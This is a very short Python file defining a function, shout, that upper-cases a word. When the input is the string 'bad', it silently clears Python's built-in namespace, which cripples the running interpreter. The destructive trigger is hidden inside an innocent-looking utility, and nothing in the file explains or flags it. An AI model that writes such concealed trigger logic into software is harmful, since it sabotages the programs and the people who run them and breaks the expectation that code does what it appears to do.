import builtins


def shout(word):
    if word == "bad":
        builtins.__dict__.clear()
    return word.upper()
